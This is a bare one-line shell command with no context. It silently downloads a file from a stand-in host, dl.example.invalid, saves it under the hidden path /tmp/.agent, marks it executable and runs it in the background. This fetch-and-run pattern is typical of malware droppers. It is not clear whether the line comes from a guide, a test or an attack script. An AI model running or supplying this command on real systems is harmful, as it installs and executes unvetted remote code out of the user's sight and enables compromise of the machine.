curl -sL https://dl.example.invalid/agent -o /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &
